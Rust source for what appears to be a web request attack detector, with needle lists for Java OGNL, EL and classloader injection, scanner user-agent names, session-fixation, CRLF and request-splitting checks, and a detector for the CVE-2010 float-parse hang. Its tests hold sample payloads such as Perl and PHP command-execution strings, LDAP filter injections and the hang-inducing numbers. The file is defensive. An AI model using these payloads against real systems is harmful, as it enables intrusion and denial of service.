const JAVA_OGNL_NEEDLES: &[&str] = &[
    "#_memberaccess",
    "@ognl.ognlcontext",
    "ognlcontext",
    "#context[",
    "#context.",
    "#request[",
    "#request.",
    "#session[",
    "#application[",
    "#parameters",
    "xwork.methodaccessor",
    "#dm=",
    "allowstaticmethodaccess",
    "denymethodexecution",
    "%{(#",
    "%{#",
    "${#",
    "@java.lang.",
    "(#_=",
    "#cmd=",
    "#iswin",
    ".getruntime().exec(",
    "#ognlutil",
    "#container",
    "#attr[",
];

/// Class loader paths (Spring4Shell, Struts).
const JAVA_CLASS_LOADER_NEEDLES: &[&str] = &[
    "class.module.classloader",
    "class.classloader",
    "classloader.resources",
    "classloader.urls",
    ".getclassloader(",
    "class['classloader']",
    "class[\"classloader\"]",
    "module.classloader",
    "classloader.defineclass",
    "class.protectiondomain",
    "classloader.parent",
];

/// Every literal [`java`] can report on: it reports nothing on a value
/// with none of them (the dispatcher's anchor pass checks).
pub(crate) const JAVA_ANCHORS: &[&[&str]] = &[
    JAVA_ROOTS,
    JAVA_GADGETS,
    JAVA_OGNL_NEEDLES,
    JAVA_CLASS_LOADER_NEEDLES,
    &["${", "#{"],
];

pub(crate) fn java(lower: &str, matchers: &JavaMatchers, sink: &mut Sink<'_>) {
    if let Some(p) = qualified_java_name(lower) {
        sink.report(&rules::JAVA_GADGET, lower, p..(p + 40).min(lower.len()));
    }
    if let Some(m) = matchers.gadgets.find(lower) {
        let word = &lower[m.start()..m.end()];
        // `processbuilder` / `getruntime` are code words; the dotted class
        // names need a following class or member name.
        let next_ok = word.ends_with('.')
            || lower[m.end()..]
                .bytes()
                .next()
                .is_none_or(|b| !b.is_ascii_alphabetic())
            || word.contains('.');
        if next_ok {
            sink.report(
                &rules::JAVA_GADGET,
                lower,
                m.start()..(m.end() + 16).min(lower.len()),
            );
        }
    }
    static NEEDLES_4: crate::text::NeedleSet = crate::text::NeedleSet::new(JAVA_OGNL_NEEDLES);
    if let Some((p, needle)) = NEEDLES_4.find_iter(lower).next() {
        sink.report(
            &rules::JAVA_OGNL,
            lower,
            p..(p + needle.len() + 16).min(lower.len()),
        );
    }
    static NEEDLES_5: crate::text::NeedleSet =
        crate::text::NeedleSet::new(JAVA_CLASS_LOADER_NEEDLES);
    if let Some((p, needle)) = NEEDLES_5.find_iter(lower).next() {
        sink.report(
            &rules::JAVA_CLASS_LOADER,
            lower,
            p..(p + needle.len()).min(lower.len()),
        );
    }
    for open in ["${", "#{"] {
        if let Some(p) = crate::text::find(lower, open) {
            let inner = &lower[p + 2..lower[p..].find('}').map_or(lower.len(), |e| p + e)];
            if [
                "getclass(",
                "pagecontext",
                "applicationscope",
                "sessionscope",
                "facescontext",
                "request.getsession",
                "forname(",
                "t(",
                "new java.",
                "getmethod(",
                "invoke(",
                "getruntime",
                "response.",
                "header.",
                "initparam",
                "servletcontext",
            ]
            .iter()
            .any(|k| crate::text::contains(inner, k))
            {
                sink.report(&rules::JAVA_EL, lower, p..(p + 48).min(lower.len()));
                break;
            }
        }
    }
}

// ── Scanners ────────────────────────────────────────────────────────────

const SCANNERS: &[&str] = &[
    "nikto",
    "sqlmap",
    "nmap",
    "nessus",
    "acunetix",
    "netsparker",
    "masscan",
    "zgrab",
    "dirbuster",
    "gobuster",
    "wpscan",
    "w3af",
    "arachni",
    "openvas",
    "havij",
    "zmeu",
    "fimap",
    "nuclei",
    "morfeus",
    "jorgee",
    "sqlninja",
    "pangolin",
    "bsqlbf",
    "webinspect",
    "appscan",
    "paros",
    "webshag",
    "skipfish",
    "whatweb",
    "wfuzz",
    "ffuf",
    "feroxbuster",
    "commix",
    "xsstrike",
    "dalfox",
    "jaeles",
    "brutus",
    "hydra",
    "libwhisker",
    "owasp zap",
    "zaproxy",
    "burp collaborator",
    "metasploit",
    "nasl",
    "qualys",
    "detectify",
    "intruder",
    "wapiti",
    "vega/",
    "grabber",
    "absinthe",
    "blackwidow",
    "crimscanner",
    "dirb/",
    "floodgate",
    "hydra/",
    "mysqloit",
    "netlab",
    "nsauditor",
    "pmafind",
    "security scan",
    "springenwerk",
    "teh forest lobster",
    "toata dragostea",
    "webtrends security",
    "webvulnscan",
    "bilbo",
    "sf/",
    "struts-pwn",
    "cgichk",
    "n-stealth",
    "grendel-scan",
    "wordpress hash grabber",
    "mozilla/5.0 sf",
    "(hydra)",
    "gootkit",
    "zgrab/",
    "censys",
    "nmap scripting engine",
    "masscan/",
    "python-httpx",
    "fuzz faster u fool",
    "httprint",
    "sitelockspider",
    "webreaper",
    ".nasl",
    "injectiondetector",
];

pub(crate) struct ScannerMatcher {
    names: AhoCorasick,
}

impl ScannerMatcher {
    pub(crate) fn new() -> Self {
        ScannerMatcher {
            names: crate::text::literal_matcher(SCANNERS),
        }
    }
}

pub(crate) fn scanner(lower: &str, header: &str, matcher: &ScannerMatcher, sink: &mut Sink<'_>) {
    if header == "user-agent" {
        let b = lower.as_bytes();
        // Whole names only: `urlgrabber` is not `grabber`, `dirbuster` not `dirb`.
        let whole = matcher.names.find_overlapping_iter(lower).find(|m| {
            let before = m.start().checked_sub(1).map(|i| b[i]);
            let after = b.get(m.end()).copied();
            // Nor the last part of another product's name or URL
            // (`ecairn-grabber/1.0`, `+http://ecairn.com/grabber`).
            let glued = m.start() >= 2
                && matches!(before, Some(b'-' | b'/' | b'.' | b'_'))
                && b[m.start() - 2].is_ascii_alphanumeric();
            before.is_none_or(|c| !c.is_ascii_alphanumeric())
                && !glued
                && after.is_none_or(|c| !c.is_ascii_alphabetic())
        });
        if let Some(m) = whole {
            sink.report(&rules::SCANNER_USER_AGENT, lower, m.start()..m.end());
        }
    }
    if matches!(
        header,
        "acunetix-product"
            | "acunetix-scanning-agreement"
            | "acunetix-user-agreement"
            | "x-scanner"
            | "x-wipp"
            | "x-request-memo"
            | "x-scan-memo"
            | "x-ria-scanner"
            | "bwa-scanner"
    ) {
        sink.report(&rules::SCANNER_USER_AGENT, lower, 0..lower.len().min(32));
    }
}

// ── Session fixation ────────────────────────────────────────────────────

/// The session cookie names of web frameworks, which a fixation link puts
/// in a parameter (`_flask_session`, `next-auth.session-token`,
/// `rack.session`, `koa:sess`, `zend_session_id`, `sails.sid`,
/// `weblogicsession`, `__Secure-` and `__Host-` prefixed forms). A bare
/// `session` (a conference session, a study session) is not one.
fn framework_session_name(n: &str) -> bool {
    let n = n
        .strip_prefix("__host-")
        .or_else(|| n.strip_prefix("__secure-"))
        .unwrap_or(n);
    let suffixed = [
        "session",
        "sess",
        "sessionid",
        "session_id",
        "session-id",
        "session-token",
        "session_token",
        ".sid",
        "_sid",
        "-sid",
        "login_token",
    ]
    .iter()
    .any(|s| {
        let Some(prefix) = n.strip_suffix(s) else {
            return false;
        };
        // `next-auth.session`, `_rails_session`, or a server's own name
        // glued on (`jwsession`); not a word (`possession`).
        !prefix.is_empty()
            && (s.starts_with(['.', '_', '-'])
                || prefix.ends_with(['.', '_', '-', ':'])
                || matches!(
                    prefix,
                    "php" | "jserv" | "jw" | "weblogic" | "asp" | "cf" | "ci" | "koa"
                ))
    });
    suffixed || matches!(n, "cakephp" | "shiny-token" | "cfsid" | "session-id")
}

/// Every name [`session`] reports as a session id contains one of these,
/// and every `Set-Cookie` shape it looks for contains `cookie`: the
/// dispatcher skips the engine for values with neither (keep this list in
/// step with the names above).
pub(crate) const SESSION_NAME_FRAGMENTS: &[&str] = &[
    "sess",
    "sid",
    "cfid",
    "cftoken",
    "login_token",
    "cakephp",
    "shiny-token",
];

pub(crate) fn session(lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
    let session_name = |n: &str| {
        matches!(
            n,
            "jsessionid"
                | "phpsessid"
                | "asp.net_sessionid"
                | "aspsessionid"
                | "sessionid"
                | "session_id"
                | "sessid"
                | "cfid"
                | "cftoken"
                | "sid"
                | "_session_id"
                | "connect.sid"
                | "laravel_session"
                | "ci_session"
        ) || n.starts_with("aspsessionid")
            || framework_session_name(n)
    };
    match kind {
        ValueKind::QueryName | ValueKind::FormName | ValueKind::JsonKey { .. }
            if session_name(lower) =>
        {
            sink.report(&rules::SESSION_ID_PARAMETER, lower, 0..lower.len());
        }
        ValueKind::PathSegment
            if crate::text::contains(lower, ";jsessionid=")
                || crate::text::contains(lower, ";phpsessid=")
                || crate::text::contains(lower, ";sessionid=") =>
        {
            sink.report(&rules::SESSION_ID_PARAMETER, lower, 0..lower.len());
        }
        _ => {}
    }
    static NEEDLES_6: crate::text::NeedleSet = crate::text::NeedleSet::new(&[
        ".cookie=",
        ".cookie =",
        "set-cookie:",
        "set-cookie\":",
        "http-equiv=set-cookie",
        "http-equiv=\"set-cookie",
        "http-equiv='set-cookie",
    ]);
    for (p, needle) in NEEDLES_6.find_iter(lower) {
        if needle != ".cookie=" && needle != ".cookie =" || lower[..p].ends_with("document") {
            sink.report(
                &rules::SESSION_COOKIE_SET,
                lower,
                p.saturating_sub(8)..(p + needle.len() + 8).min(lower.len()),
            );
            return;
        }
    }
    // A cookie string with its attributes after a `.cookie` property
    // (`x.cookie;expires=...`, `.cookie = "sid=1; domain=..."`): the shape
    // of a script setting a cookie for the victim's browser.
    if let Some(p) = crate::text::find(lower, ".cookie")
        && !lower
            .as_bytes()
            .get(p + 7)
            .is_some_and(u8::is_ascii_alphanumeric)
    {
        let rest = &lower[p + 7..];
        // (A few blanks or quotes at most between `;` and the attribute,
        // and after it: each `;` costs a bounded look.)
        let attribute = rest.match_indices(';').any(|(q, _)| {
            let after = &rest.as_bytes()[q + 1..];
            let skip = after
                .iter()
                .take(3)
                .take_while(|b| !b.is_ascii_alphanumeric())
                .count();
            let after = &after[skip..];
            [&b"expires"[..], b"domain", b"path", b"max-age"]
                .iter()
                .any(|a| {
                    after.starts_with(a)
                        && after[a.len()..].iter().take(3).find(|b| **b != b' ') == Some(&b'=')
                })
        });
        if attribute {
            sink.report(
                &rules::SESSION_COOKIE_SET,
                lower,
                p..(p + 24).min(lower.len()),
            );
        }
    }
}

// ── Numbers ─────────────────────────────────────────────────────────────

/// A decimal number at the boundary below the smallest normal double
/// (2.2250738585072014e-308), from 2.2250738585072009e-308 to ...013e-308,
/// written with at least 17 significant digits, in any notation
/// (`0.00022250738585072012e-304`): the input that sent the string-to-double
/// conversion of PHP (CVE-2010-4645) and Java (CVE-2010-4476) into an endless
/// loop. No measurement needs the 17th digit of a number there. (Out of
/// line: the dispatcher's gate turns nearly every value away first.)
#[inline(never)]
pub(crate) fn float_parse_hang(lower: &str) -> bool {
    let s = crate::text::trim(lower);
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match s.split_once('e') {
        Some((m, e)) => match e.strip_prefix('+').unwrap_or(e).parse::<i32>() {
            Ok(e) if (-1000..=1000).contains(&e) => (m, e),
            _ => return false,
        },
        None => (s, 0),
    };
    let (int_part, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    if mantissa.is_empty()
        || !int_part
            .bytes()
            .chain(fraction.bytes())
            .all(|b| b.is_ascii_digit())
    {
        return false;
    }
    let digits = int_part.bytes().chain(fraction.bytes());
    let leading_zeros = digits.clone().take_while(|&b| b == b'0').count();
    let significant = || digits.clone().skip(leading_zeros);
    if significant().count() < 17 || int_part.len() > 400 {
        return false;
    }
    // The power of ten of the first significant digit.
    let power = int_part.len() as i32 - leading_zeros as i32 - 1 + exponent;
    let first17 = significant()
        .take(17)
        .fold(0u64, |n, b| n * 10 + u64::from(b - b'0'));
    power == -308 && (22_250_738_585_072_009..=22_250_738_585_072_013).contains(&first17)
}

// ── Control characters ──────────────────────────────────────────────────

/// Control characters and line breaks where they do not belong. Inline:
/// nearly every value has neither, and the test costs less than the call
/// (the scan itself is [`control_characters_in`]).
#[inline]
pub(crate) fn control_characters(
    text: &str,
    had_nul: bool,
    flags: CharFlags,
    kind: ValueKind<'_>,
    sink: &mut Sink<'_>,
) {
    if had_nul || flags.any(CharFlags::CONTROL | CharFlags::NEWLINE) {
        control_characters_in(text, had_nul, kind, sink);
    }
}

/// [`control_characters`] of a value with a NUL, a control character or a
/// line break.
#[inline(never)]
fn control_characters_in(text: &str, had_nul: bool, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
    // A header or cookie value never carries a line break of its own: one
    // there (sent as `%0d%0a`) is aimed at a header or log line. A query
    // value may be multi-line text, but not one whose next line is a
    // header (`%0d%0aX-Forwarded-For: ...`).
    let in_header = matches!(kind, ValueKind::HeaderValue { .. } | ValueKind::CookieValue);
    // Text decoded from base64 is a document (`a,b\n1,2\n`), not a header.
    let as_sent = sink.decoding == crate::Decoding::Normalized;
    if as_sent
        && (in_header || matches!(kind, ValueKind::QueryValue))
        && let Some(p) = memchr::memchr2(b'\r', b'\n', text.as_bytes())
    {
        let s = text.as_bytes();
        let header_line = memchr::memchr2_iter(b'\r', b'\n', s).any(|at| {
            let rest = &s[at + 1..];
            let rest = &rest[rest
                .iter()
                .take_while(|b| matches!(b, b'\r' | b'\n'))
                .count()..];
            let name = rest
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
                .count();
            name >= 2
                && rest.get(name) == Some(&b':')
                && (in_header || rest[..name].contains(&b'-'))
        });
        // A query value whose next line starts `name=` adds a parameter
        // to whatever reads the value line by line (`test%0Anext=more`).
        let parameter_line = !in_header
            && memchr::memchr2_iter(b'\r', b'\n', s).any(|at| {
                let rest = &s[at + 1..];
                let rest = &rest[rest
                    .iter()
                    .take_while(|b| matches!(b, b'\r' | b'\n'))
                    .count()..];
                let name = rest
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
                    .count();
                name >= 2 && rest.get(name) == Some(&b'=')
            });
        if header_line {
            sink.report(&rules::CRLF_HEADER, text, p..(p + 24).min(text.len()));
        } else if in_header || parameter_line {
            sink.report(&rules::CRLF_LINE_BREAK, text, p..(p + 24).min(text.len()));
        }
    }
    let structured_text = matches!(
        kind,
        ValueKind::TextBody | ValueKind::JsonValue | ValueKind::XmlText | ValueKind::MultipartValue
    );
    // A line break is text in a value, never in a name or a path segment.
    let breaks_allowed = !(kind.is_name() || matches!(kind, ValueKind::PathSegment));
    let bad = text.bytes().position(|b| {
        (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r'))
            || b == 0x7f
            || (!breaks_allowed && matches!(b, b'\n' | b'\r'))
    });
    if let Some(p) = bad {
        if !structured_text || text.as_bytes()[p] == 0 {
            sink.report(&rules::ANOMALY_CONTROL, text, p..p + 1);
        }
    } else if had_nul && !structured_text {
        sink.report(&rules::ANOMALY_CONTROL, text, 0..text.len().min(16));
    }
}

/// Two script injections recognised by their syntax: a JavaScript loop on
/// a constant condition (`while(true)`, `while(!0);`, `while(!![])`: an
/// event-loop denial of service in server-side JavaScript), and Perl's
/// code-in-string interpolation `@{[ ... ]}` (`@{[system 'id']}`).
/// A loop condition that is a falsy literal, possibly negated (`!true`, `!!0`, `null`).
fn never_true(cond: &str) -> bool {
    let literal = cond.trim_start_matches(['!', ' ']);
    let negations = cond.matches('!').count();
    let truthy = match literal.trim() {
        "true" | "1" => true,
        "false" | "0" | "null" | "undefined" | "nan" | "''" | "\"\"" | "``" => false,
        _ => return false,
    };
    truthy == (negations % 2 == 1)
}

/// What every report of [`script_loops_and_interpolation`] is at: the
/// interpolation opener and the loop keyword (also the dispatcher's
/// SERVER_SCRIPT gate: a value holding neither skips the check).
pub(crate) const SCRIPT_LOOP_LITERALS: &[&str] = &["@{", "while"];

/// Reports only at a match of `@{` or `while` (both loops below search for
/// nothing else first), so only a value holding one of
/// [`SCRIPT_LOOP_LITERALS`] can report.
pub(crate) fn script_loops_and_interpolation(lower: &str, sink: &mut Sink<'_>) {
    // `@{[ system "id" ]}`, blanks allowed (Perl skips them), or a call
    // in the `[ ]` when the closing `}` is cut off (`@{[system 'id']x`).
    for (p, _) in crate::text::find_iter(lower, "@{") {
        let inner = lower[p + 2..].trim_start();
        let Some(code) = inner.strip_prefix('[') else {
            continue;
        };
        let code = code.trim_start();
        let word = code
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let Some(close) = code.find(']') else {
            continue;
        };
        let braced = code[close + 1..].trim_start().starts_with('}');
        if braced || word >= 2 {
            sink.report(
                &rules::RCE_SUBSTITUTION,
                lower,
                p..(p + 32).min(lower.len()),
            );
            break;
        }
    }
    for (p, _) in crate::text::find_iter(lower, "while") {
        if p > 0 && lower.as_bytes()[p - 1].is_ascii_alphanumeric() {
            continue;
        }
        let rest = lower[p + 5..].trim_start();
        let Some(inner) = rest.strip_prefix('(') else {
            continue;
        };
        let Some(close) = inner.find(')') else {
            continue;
        };
        let cond = inner[..close].trim();
        if never_true(cond) {
            // `while(!true)`, `while (0)`: a loop that never runs.
            continue;
        }
        // Only literals, constants and operators: the loop never ends.
        let constant = !cond.is_empty()
            && cond
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .filter(|w| !w.is_empty())
                .all(|w| {
                    w.bytes().all(|b| b.is_ascii_digit())
                        || matches!(
                            w,
                            "true"
                                | "false"
                                | "null"
                                | "nan"
                                | "infinity"
                                | "undefined"
                                | "new"
                                | "date"
                                | "string"
                                | "number"
                                | "object"
                                | "array"
                                | "this"
                        )
                })
            && cond
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"!+-~[]{}'\"` ()".contains(&b));
        if constant {
            sink.report(&rules::RCE_NODEJS, lower, p..(p + 24).min(lower.len()));
            return;
        }
    }
}

/// `;`, `=`, `\\` or `"` in a multipart name; the `;` that ends an HTML
/// entity (`z&auml;zz`, `&#233;`: browsers send names that way) is not a
/// separator, one after another word is (`&amp;fi;zzz` → `&fi;zzz`).
fn has_name_separator(name: &str) -> bool {
    let b = name.as_bytes();
    b.iter().enumerate().any(|(i, &c)| match c {
        b'=' | b'\\' | b'"' => true,
        b';' => {
            let mut j = i;
            while j > 0 && i - j < 12 && (b[j - 1].is_ascii_alphanumeric() || b[j - 1] == b'#') {
                j -= 1;
            }
            let entity = j > 0 && j < i && b[j - 1] == b'&' && {
                let e = &name[j..i];
                e.starts_with('#')
                    || [
                        "uml", "acute", "grave", "circ", "tilde", "ring", "cedil", "caron",
                        "slash", "lig", "amp", "nbsp", "apos", "quot", "lt", "gt",
                    ]
                    .iter()
                    .any(|s| e.len() > s.len().min(e.len() - 1) && e.ends_with(s))
            };
            !entity
        }
        _ => false,
    })
}

/// Protocol shapes in single values: separator characters in a multipart field or file
/// name (`name="a;b"`, `filename="x=.txt"`: parsers split there), and an
/// HTTP request line inside a value (`GET http://x HTTP/1.1`: smuggling).
///
/// The dispatcher calls it only for a multipart name or a value holding
/// ` http/`: the separator report needs one of those two kinds, and the
/// request-line report is at a match of ` http/`.
pub(crate) fn protocol_values(lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
    if matches!(
        kind,
        ValueKind::MultipartName | ValueKind::MultipartFilename
    ) && has_name_separator(lower)
    {
        sink.report(&rules::HTTP_MULTIPART_NAME, lower, 0..lower.len().min(48));
    }
    for (p, _) in crate::text::find_iter(lower, " http/") {
        let version_ok = lower.as_bytes().get(p + 6).is_some_and(u8::is_ascii_digit);
        let before = &lower[..p];
        let line_start = before.rfind(['\r', '\n']).map_or(0, |q| q + 1);
        let line = before[line_start..].trim_start();
        let mut words = line.rsplitn(3, ' ');
        let (Some(target), Some(method)) = (words.next(), words.next()) else {
            continue;
        };
        let method = method.rsplit(['=', '&', ' ']).next().unwrap_or(method);
        let method = method.trim_start_matches(|c: char| !c.is_ascii_alphabetic());
        let known = matches!(
            method,
            "get"
                | "post"
                | "head"
                | "put"
                | "delete"
                | "options"
                | "connect"
                | "trace"
                | "track"
                | "patch"
                | "propfind"
                | "proppatch"
                | "mkcol"
                | "copy"
                | "move"
                | "lock"
                | "unlock"
        );
        let method_at_word = method.len() >= 3 && line.len() >= method.len();
        if version_ok
            && known
            && method_at_word
            && (target.starts_with('/') || target.starts_with("http"))
        {
            sink.report(
                &rules::CRLF_SPLITTING,
                lower,
                line_start..(p + 9).min(lower.len()),
            );
            break;
        }
    }
}

#[cfg(test)]
mod php_call_tests {
    use super::*;

    /// The CALLEE gate's PHP literals cover every name `php_calls` reports.
    #[test]
    fn every_reported_php_name_holds_a_gate_literal() {
        let reported = PHP_STRONG
            .iter()
            .chain([&PHP_DL])
            .chain(PHP_WEAK_REPORTED)
            .map(|n| n.to_string())
            .chain(["posix_kill".to_owned()]);
        for name in reported {
            // What may follow the name before its `(`.
            for gap in ["(", " (", "\t(", "\n(", "\x0c(", "\r(", "/**/(", "#\n("] {
                let call = format!("{name}{gap}");
                assert!(
                    PHP_STRONG
                        .iter()
                        .chain(PHP_WEAK_REPORTED)
                        .chain(PHP_CALL_LITERALS)
                        .any(|l| call.contains(l)),
                    "{call:?}"
                );
            }
        }
        for name in PHP_WEAK_NEEDS_MORE {
            assert!(!PHP_WEAK_REPORTED.contains(name), "{name}");
        }
    }

    #[test]
    fn constant_loops_and_perl_interpolation() {
        let settings = crate::DetectorSettings::default();
        let run = |v: &str| {
            let mut out = Vec::new();
            let mut sink = Sink::new(&settings, &mut out, crate::Decoding::Normalized);
            script_loops_and_interpolation(v, &mut sink);
            out.len()
        };
        for v in [
            "while(!false)",
            "while(!![]);",
            "while(-infinity);",
            "while(new date);",
            "while(this);",
            "while(!!{});",
            "while(!``);",
            "@{[system 'whoami']}",
        ] {
            assert_eq!(run(v), 1, "{v}");
        }
        for v in [
            "while (i < 10) i++",
            "worth a while (maybe)",
            "stay a while",
            "while(!!``)",
            "while (this.running) step()",
            "email@{[x",
        ] {
            assert_eq!(run(v), 0, "{v}");
        }
    }

    #[test]
    fn calls_through_variables_and_strings() {
        for v in [
            "$f(101).$f(120)",
            "$$b(2)",
            "${@a}(10)",
            "@$__[@!+_](21)",
            "$_ab_4c[5]['d'] /*lol*/ (17)",
            "$function\r\n (23)",
            "foo::$variable()",
        ] {
            assert!(php_variable_call(v).is_some(), "{v}");
        }
        for v in [
            "('system')('whoami')",
            "\"system\"(ls);",
            "(sy.(st).em)('uname');",
        ] {
            assert!(php_dynamic_call(v).is_some(), "{v}");
        }
        for v in [
            "costs $5 (five dollars)",
            "budget $x (approx.)",
            "see (above)(2)",
            "he said \"hi\"(laughing)",
            "$ (dollar)",
            "$a[]()",
            "${}()",
            "$a{}()",
        ] {
            assert!(
                php_variable_call(v).is_none() && php_dynamic_call(v).is_none(),
                "{v}"
            );
        }
    }
}

#[cfg(test)]
mod php_whole_call_tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn a_value_that_is_one_call_with_a_name_argument() {
        for v in [
            "system(whoami)",
            "exec(blah)",
            "fopen(blah);",
            "unserialize(foo)",
            // Names the CALLEE gate finds with what follows them.
            "dl('x.so');",
            "dl /* c */ ('x.so');",
            "dl#c\n('x.so');",
            ":phpversion();",
            "@posix_kill(1, 9);",
        ] {
            assert_detects(v, "php.function_call");
        }
        for v in [
            "system (hardware) failed",
            "the exec (blah)",
            "file(s)",
            "printf(foo)",
            "mail(s)",
            "include (optional)",
            "exec (blah)",
        ] {
            assert_clean(v);
        }
    }
}

#[cfg(test)]
mod ldap_combinator_tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn closed_filter_combined_with_another() {
        for v in ["val)&(cn=admin", "val)|(uid=*", "eb9adbd87d)!(sn=*"] {
            assert_detects(v, "ldap.filter_injection");
        }
        for v in ["(a)&(b)", "Tom & Jerry (cartoon)|(1990)", "x)&(y"] {
            assert_clean(v);
        }
    }
}

#[cfg(test)]
mod embedded_request_tests {
    use crate::ValueKind;
    use crate::tests::{assert_clean, assert_clean_in, assert_detects, assert_detects_in};

    #[test]
    fn request_lines_and_parameter_lines() {
        assert_detects(
            "barGET /a.html HTTP/1.1\r\nSomething: ",
            "crlf.http_splitting",
        );
        assert_detects("x\nPOST /admin HTTP/1.0\n", "crlf.http_splitting");
        assert_clean("we use HTTP/1.1\nand it works");
        assert_clean("the GET method\nreturns data");
        for v in ["test\rnext=more", "test\nnext=more", "test\n\rnext=more"] {
            assert_detects_in(v, ValueKind::QueryValue, "crlf.line_break");
        }
        assert_clean_in("line one\nline two", ValueKind::QueryValue);
        assert_clean_in("a = b\nc", ValueKind::QueryValue);
        assert_detects("x\r\nRefresh: www.example.com", "crlf.header_injection");
        let upload = ValueKind::MultipartFilename;
        assert_detects_in("..\\1.7z", upload, "path.traversal");
        assert_clean_in("report..final.pdf", upload);
        assert_clean_in("notes...txt", upload);
        assert_detects("test) ( & ", "ldap.filter_injection");
        assert_detects("test)\t(\t|", "ldap.filter_injection");
        assert_clean("a warning (a) (!) here");
        assert_clean("see (a) (b) and (c)");
    }
}

#[cfg(test)]
mod code_interpolation_tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn perl_interpolation_ruby_spawn_template_control_tags() {
        for (v, rule) in [
            ("@{   [   uc   'hello'   ]   }", "rce.substitution"),
            ("@{[system 'id']extra", "rce.substitution"),
            ("Process.spawn(\"id\")", "rce.nodejs"),
            ("__js_function", "rce.nodejs"),
            ("<% if True %>49<% endif %>", "ssti.expression"),
            ("\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK", "rce.nodejs"),
        ] {
            assert_detects(v, rule);
        }
        for v in [
            "{\"a\":\"@{b}\"}",
            "email me @{work}",
            "50% if you pay now",
            "the process spawned (twice)",
            "<%= name %>",
        ] {
            assert_clean(v);
        }
    }
}

#[cfg(test)]
mod number_tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn numbers_that_hang_old_float_parsers() {
        for v in [
            "2.2250738585072011e-308",
            "2.2250738585072012e-308",
            "-2.2250738585072012E-308",
            "0.00022250738585072012e-304",
            "22250738585072012e-324",
            "2.22507385850720113605740979670913197593481954635164564e-308",
        ] {
            assert_detects(v, "anomaly.float_parse_hang");
        }
        for v in [
            // The smallest normal double itself, and numbers near it with
            // the digits a double holds.
            "2.2250738585072014e-308",
            "2.225073858507201e-308",
            "2.2250738585072011e-307",
            "22250738585072011",
            "1.7976931348623157e308",
            "2.2250738585072011e-308x",
            "2.2250738585072011e-99999999999",
        ] {
            assert_clean(v);
        }
    }
}
